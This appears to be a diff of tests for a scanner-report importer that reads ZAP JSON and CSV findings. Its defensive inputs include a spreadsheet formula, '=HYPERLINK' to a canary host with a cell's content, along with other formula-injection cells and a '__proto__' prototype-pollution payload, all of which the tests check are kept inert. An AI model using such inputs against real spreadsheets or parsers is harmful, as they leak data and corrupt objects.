@@ -67,6 +67,52 @@ describe('a file of a scanner', () => {
       { times: 3, places: ['https://a.example/1', 'https://a.example/2'] },
     ])
   })
+  it('of ZAP as JSON tells the same as its XML, with sites in a list or alone', async () => {
+    const alert = {
+      pluginid: '40012',
+      alert: 'XSS',
+      name: 'Cross Site Scripting',
+      riskcode: '3',
+      desc: '<p>old &amp; weak</p>',
+      instances: [{ uri: 'https://a.example/x', method: 'GET', param: 'q' }, { uri: 'https://a.example/y' }],
+      solution: '<p>escape</p>',
+      cweid: '79',
+    }
+    const site = { '@name': 'https://a.example', alerts: [alert, { name: 'Header', riskcode: '0' }] }
+    for (const sites of [[site], site])
+      expect(await read(JSON.stringify({ '@version': '2.14.0', site: sites }))).toMatchObject({
+        format: 'zap',
+        items: 2,
+        rows: [
+          {
+            title: 'Cross Site Scripting',
+            severity: 'high',
+            cwe: 'CWE-79',
+            places: ['https://a.example/x', 'https://a.example/y'],
+            description: 'old & weak',
+            repair: 'escape',
+          },
+          { title: 'Header', severity: 'info', places: ['https://a.example'] },
+        ],
+      })
+    expect(await read(JSON.stringify({ '@programName': 'ZAP', site: [] }))).toMatchObject({ format: 'zap', items: 0 })
+  })
+  it.each([
+    ['sites that are none', '{"@version":"2","site":[1,"x",null]}'],
+    ['no site', '{"@version":"2"}'],
+    ['a site behind the prototype', '{"@version":"2","__proto__":{"site":[]},"constructor":{"site":[]}}'],
+  ])('of ZAP as JSON with %s is refused', async (_what, text) => {
+    expect(await refusalOf(text)).toBe('unknown_format')
+  })
+  it('of ZAP as JSON with alerts that are none leaves them out', async () => {
+    const odd = [null, 1, 'x', [], {}, { name: ['a'] }, { name: { toString: 1 } }]
+    const good = { name: 'good', instances: 'x', riskcode: {}, desc: [1], cweid: {} }
+    expect(await read(JSON.stringify({ '@version': '2', site: [{ alerts: [...odd, good] }] }))).toMatchObject({
+      items: 8,
+      leftCount: 7,
+      rows: [{ title: 'good', severity: 'info', cwe: null, description: '' }],
+    })
+  })
   it('says which results were left out, and why', async () => {
     const good = JSON.stringify({ 'template-id': 't', info: { name: 'n' } })
     expect(await read(`${good}\n{broken\n{"info":1}\n${good}`)).toMatchObject({
@@ -134,6 +180,109 @@ describe('a file of a scanner', () => {
     await fc.assert(
       fc.asyncProperty(fc.array(pieces, { maxLength: 30 }), async (parts) => {
         const { verdict } = await read(parts.join(''))
+        expect(['read', 'refused']).toContain(verdict)
+      }),
+      { numRuns: 500 },
+    )
+  })
+})
+
+describe('a table as text', () => {
+  it('is read by the names of its columns, whatever separates them', async () => {
+    for (const sign of [',', ';', '\t'])
+      for (const [end, mark] of [
+        ['\n', ''],
+        ['\r\n', '\ufeff'],
+      ] as const) {
+        const lines = [
+          ['名称', '级别', '位置', '描述'],
+          ['弱口令', '高危', 'a.example:80', `"一行${end}又一行 ""引用"""`],
+          ['', '', '', ''],
+        ]
+        expect(await read(mark + lines.map((cells) => cells.join(sign)).join(end))).toMatchObject({
+          format: 'csv',
+          items: 1,
+          rows: [{ title: '弱口令', severity: 'high', places: ['a.example:80'], description: '一行\n又一行 "引用"' }],
+        })
+      }
+  })
+  it('of a scanner has its host and port, and may begin with lines about itself', async () => {
+    const text = [
+      '"Report","4 Feb"',
+      '"Company","Street"',
+      '',
+      '"Plugin ID","CVSS","Risk","Host","Protocol","Port","Name","Synopsis","Solution"',
+      '"1","","Critical","a.example","tcp","8443","Old TLS","It is old","Mend it"',
+      '"2","","None","fe80::1","tcp","0","Ping","",""',
+    ].join('\n')
+    expect(await read(text)).toMatchObject({
+      items: 2,
+      rows: [
+        {
+          title: 'Old TLS',
+          severity: 'critical',
+          places: ['a.example:8443'],
+          description: 'It is old',
+          repair: 'Mend it',
+        },
+        { title: 'Ping', severity: 'info', places: ['fe80::1'] },
+      ],
+    })
+  })
+  it.each(['=HYPERLINK("https://canary.invalid/?"&A1)', '+1+1', '-1+1', '@SUM(A1)', '＝1', ';=1+1', "'=1"])(
+    'PUB-IN-03: keeps the cell %s as the text that it is',
+    async (cell) => {
+      const quoted = `"${cell.replaceAll('"', '""')}"`
+      expect(await rowsOf(`title,severity,url\n${quoted},high,${quoted}\n`)).toMatchObject([
+        { title: cell, places: [cell] },
+      ])
+    },
+  )
+  it.each([
+    ['without known headings', 'a,b\n1,2\n', 'unknown_format'],
+    ['with a name and nothing else', 'title,b\n1,2\n', 'unknown_format'],
+    ['whose headings come too late', `${'x,y\n'.repeat(10)}title,severity\n`, 'unknown_format'],
+    ['with a quotation mark that never ends', 'title,severity\n"abc,high\n', 'malformed'],
+    ['that is a picture', 'GIF89a,title', 'unknown_format'],
+    ['of one endless line', 'a,'.repeat(500_000), 'unknown_format'],
+  ])('%s is refused', async (_what, text, why) => {
+    expect(await refusalOf(text)).toBe(why)
+  })
+  it.each([
+    ['GB18030', Buffer.from([0xc3, 0xfb, 0xb3, 0xc6, 0x2c, 0xbc, 0xb6, 0xb1, 0xf0, 0x0a])],
+    ['UTF-16', Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from('title,severity\na,high\n', 'utf16le')])],
+    ['Latin-1', Buffer.from('title,severity\ncaf\u00e9,high\n', 'latin1')],
+  ])('in %s is refused: what it says would be a guess', async (_encoding, file) => {
+    expect(await readScan(file)).toMatchObject({ verdict: 'refused', why: 'encoding' })
+  })
+  it('PUB-UP-10: of a million rows is refused with its count, and of huge cells keeps the beginning', async () => {
+    expect(await read(`title,severity\n${'a,high\n'.repeat(1_000_000)}`)).toMatchObject({
+      why: 'too_many_findings',
+      count: 1_000_000,
+    })
+    const [row] = await rowsOf(`title,severity,description\n${'t'.repeat(1_000_000)},high,"${'""'.repeat(500_000)}"\n`)
+    expect([row?.title.length, row?.description.length]).toEqual([importLimits.title, importLimits.description])
+  })
+  it('of any signs has an answer', async () => {
+    const pieces = fc.constantFrom(
+      'title',
+      'severity',
+      ',',
+      ';',
+      '\t',
+      '"',
+      '""',
+      '\n',
+      '\r',
+      '\r\n',
+      '=1',
+      '\0',
+      'é',
+      ' ',
+    )
+    await fc.assert(
+      fc.asyncProperty(fc.array(pieces, { maxLength: 40 }), async (parts) => {
+        const { verdict } = await read(`x${parts.join('')}`)
         expect(['read', 'refused']).toContain(verdict)
       }),
       { numRuns: 500 },
@@ -213,6 +362,34 @@ const known = listed.filter(
     (counted[tool] !== undefined || tool === 'nuclei' || tool === 'zap') &&
     !file.endsWith('.csv'),
 )
+
+/** Tables of which each row is a result, by tools whose headings have a name. */
+const byHeadings = [
+  'bugcrowd',
+  'cloudflare_insights',
+  'cobalt',
+  'generic',
+  'intsights',
+  'kiuwan',
+  'openvas',
+  'qualys_vmdr',
+  'skf',
+  'tenable',
+  'testssl',
+]
+const tables = listed.filter(
+  ({ file, tool, raw, expect: wanted }) =>
+    file.endsWith('.csv') && wanted === 'findings' && raw?.['rows'] !== undefined && byHeadings.includes(tool),
+)
+
+describe.skipIf(tables.length === 0)('real tables of scanners, where the folder with them is present,', () => {
+  it.each(tables.map((one) => [one.file, one] as const))('%s has as many results as rows', async (file, one) => {
+    const answer = await readScan(readFileSync(join(data, file)))
+    expect(answer).toMatchObject({ verdict: 'read', format: 'csv' })
+    // Lines about the tool itself, and lines within cells, stand as rows in one of the counts.
+    if (answer.verdict === 'read') expect([one.raw?.['rows'], one.count]).toContain(answer.items)
+  })
+})
 
 describe.skipIf(known.length === 0)('real files of scanners, where the folder with them is present,', () => {
   it.each(known.map((one) => [one.file, one] as const))('%s has as many results as were counted', async (file, one) => {
